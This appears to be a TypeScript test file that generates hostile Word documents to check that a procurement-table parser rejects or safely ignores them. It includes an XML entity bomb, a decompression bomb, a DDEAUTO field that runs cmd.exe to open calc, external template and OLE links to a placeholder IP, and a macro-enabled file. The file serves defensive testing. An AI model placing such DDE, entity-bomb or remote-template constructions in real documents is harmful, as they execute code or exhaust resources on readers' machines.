/** Hostile Word documents: what they hide, nest, repeat or draw in from elsewhere. */
import * as XLSX from 'xlsx';
import { docxParts, makeDocx, paragraphs, wordTable } from '../helpers/make-docx.js';
import { escapeXml } from '../helpers/make-xlsx.js';
import { GOOD, goodBut, type HostileCase } from './case.js';
import { rawZip } from './raw-zip.js';

const MEGABYTE = 1024 * 1024;
const FILE = '表.docx';
const HEAD = paragraphs('政府采购领域主动公开目录\n填报单位：县财政局');

/** The good table, with one cell in other XML. */
function tableBut(xml: string): string {
  const rows = GOOD.slice(2).map((cells, r) =>
    cells.map((text, c) => (r === 1 && c === 2 ? { xml } : { text })),
  );
  return wordTable(rows);
}

const GOOD_TABLE = wordTable(GOOD.slice(2));
const run = (inner: string) => `<w:r>${inner}</w:r>`;
const text = (words: string) => run(`<w:t>${escapeXml(words)}</w:t>`);
const withCell = (xml: string) => () => makeDocx(HEAD, tableBut(xml));
const paragraph = (inner: string) => `<w:p>${inner}</w:p>`;

export const WORD_CASES: readonly HostileCase[] = [
  {
    what: 'Word 文档里的实体炸弹',
    file: FILE,
    make: () =>
      withDocument((xml) =>
        xml
          .replace(
            '<w:document',
            `<!DOCTYPE x [<!ENTITY a "lol">${Array.from({ length: 9 }, (_, n) => `<!ENTITY b${n} "&a;&a;&a;&a;&a;">`).join('')}]><w:document`,
          )
          .replace('包括采购人名称', '&b8;'),
      ),
    code: 'file-truncated',
    note: '不展开任何实体',
  },
  {
    what: 'Word 文档的压缩炸弹：解压成 400MB',
    file: FILE,
    make: () =>
      withDocument((xml) => xml.replace('<w:body>', `<w:body>${' '.repeat(400 * MEGABYTE)}`)),
    code: 'file-too-large',
  },
  {
    what: 'Word 表格一层套一层，套了 200 层',
    file: FILE,
    make: () => makeDocx(HEAD, GOOD_TABLE, nested(200)),
    code: 'cell-table-inside',
    entries: 2,
    note: '里面的文字按行并入外面的格子',
  },
  {
    what: 'Word 表格后面有一百万个空格子',
    file: FILE,
    make: () =>
      makeDocx(
        HEAD,
        GOOD_TABLE,
        `<w:tbl>${`<w:tr>${'<w:tc><w:p/></w:tc>'.repeat(100)}</w:tr>`.repeat(10_000)}</w:tbl>`,
      ),
    entries: 2,
  },
  {
    what: 'Word 格子自称横跨十万列',
    file: FILE,
    make: () => makeDocx(HEAD, wordTable([[{ text: '说明', span: 100_000 }], ...GOOD.slice(2)])),
    entries: 2,
  },
  {
    what: 'Word 里十万行竖向合并，没有起头的格子',
    file: FILE,
    make: () =>
      makeDocx(
        HEAD,
        GOOD_TABLE.replace(
          '</w:tbl>',
          `${'<w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc></w:tr>'.repeat(100_000)}</w:tbl>`,
        ),
      ),
    entries: 2,
  },
  {
    what: 'Word 修订：删去的文字还在文件里',
    file: FILE,
    make: withCell(
      paragraph(
        `<w:del w:id="1">${run('<w:delText>旧的内容</w:delText>')}</w:del><w:ins w:id="2">${text('包括采购人名称')}</w:ins>`,
      ),
    ),
    entries: 2,
    note: '只读修订之后的文字',
  },
  {
    what: 'Word 里设为隐藏的文字',
    file: FILE,
    make: withCell(
      paragraph(`${text('包括采购人名称')}${run('<w:rPr><w:vanish/></w:rPr><w:t>藏</w:t>')}`),
    ),
    entries: 2,
    note: '看不见的文字不读',
  },
  {
    what: 'Word 格子里有文本框',
    file: FILE,
    make: withCell(
      paragraph(
        `${text('包括采购人名称')}<w:r><mc:AlternateContent xmlns:mc="mc"><mc:Choice><w:txbxContent>${paragraph(text('框里的字'))}</w:txbxContent></mc:Choice><mc:Fallback><w:txbxContent>${paragraph(text('框里的字'))}</w:txbxContent></mc:Fallback></mc:AlternateContent></w:r>`,
      ),
    ),
    entries: 2,
    note: '框里的字只读一遍',
  },
  {
    what: 'Word 里的 DDE 域',
    file: FILE,
    make: withCell(
      paragraph(
        `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${run('<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>')}<w:r><w:fldChar w:fldCharType="separate"/></w:r>${text('包括采购人名称')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
      ),
    ),
    entries: 2,
    note: '不运行，只读显示的文字',
  },
  {
    what: 'Word 里嵌了另一个文件（altChunk）',
    file: FILE,
    make: () => makeDocx(HEAD, GOOD_TABLE, '<w:altChunk r:id="rId9"/>'),
    code: 'document-part-unread',
    entries: 2,
    note: '嵌入的文件不取',
  },
  {
    what: 'Word 引用磁盘和网络上的模板和图片',
    file: FILE,
    make: () =>
      makeDocx(HEAD, GOOD_TABLE, {
        'word/_rels/document.xml.rels':
          '<Relationships><Relationship Id="rId1" Type="x/attachedTemplate" TargetMode="External" Target="http://192.0.2.1/a.dotm"/><Relationship Id="rId2" Type="x/oleObject" TargetMode="External" Target="file:////192.0.2.1/a.xlsx!R1C1"/></Relationships>',
      }),
    entries: 2,
    note: '什么也不去取',
  },
  {
    what: '带宏的 Word 文档（.docm）',
    file: '表.docm',
    make: () => makeDocx(HEAD, GOOD_TABLE, { 'word/vbaProject.bin': 'x' }),
    code: 'file-macros',
    entries: 2,
    note: '宏不运行',
  },
  {
    what: 'Word 里有倒写、零宽字符',
    file: FILE,
    make: () =>
      makeDocx(
        HEAD,
        wordTable(
          goodBut(3, 2, '\u202e包括采购人\u200b名称\u202c')
            .slice(2)
            .map((row) => row.map(String)),
        ),
      ),
    code: 'text-hidden-marks',
    entries: 2,
  },
  {
    what: 'Word 的一格有一百万字',
    file: FILE,
    make: withCell(paragraph(text('长'.repeat(1_000_000)))),
    code: 'cell-too-long',
    entries: 2,
  },
  {
    what: 'Word 文档只剩一半',
    file: FILE,
    make: () => {
      const bytes = makeDocx(HEAD, GOOD_TABLE);
      return bytes.slice(0, bytes.length / 2);
    },
    code: 'file-truncated',
  },
  {
    what: 'Word 文档的内容在中间断掉',
    file: FILE,
    make: () => withDocument((xml) => xml.slice(0, xml.length / 2)),
    code: 'file-truncated',
  },
  {
    what: '设了打开密码的 Word 文档',
    file: FILE,
    make: () => {
      const made = XLSX.CFB.utils.cfb_new();
      XLSX.CFB.utils.cfb_add(made, '/EncryptedPackage', new Uint8Array(5000));
      return Uint8Array.from(XLSX.CFB.write(made, { type: 'array' }) as Iterable<number>);
    },
    code: 'file-encrypted',
  },
  {
    what: 'Word 文档改名为 .xlsx',
    make: () => makeDocx(HEAD, GOOD_TABLE),
    code: 'file-misnamed',
    entries: 2,
  },
  {
    what: '两百万个空段落的 Word 文档',
    file: FILE,
    make: () => makeDocx(HEAD, GOOD_TABLE, '<w:p/>'.repeat(2_000_000)),
    entries: 2,
  },
];

function withDocument(change: (xml: string) => string): Uint8Array {
  const parts = docxParts(HEAD, GOOD_TABLE);
  return rawZip(
    Object.entries(parts).map(([name, part]) => ({
      name,
      content: name === 'word/document.xml' ? change(String(part)) : part,
    })),
  );
}

/** A table in the only cell of a table, and so on; a word beside each. */
function nested(levels: number): string {
  const open = `<w:tbl><w:tr><w:tc>${paragraph(text('层'))}`;
  const beside = `</w:tc><w:tc>${paragraph(text('旁'))}</w:tc></w:tr></w:tbl>`;
  return open.repeat(levels) + beside.repeat(levels);
}
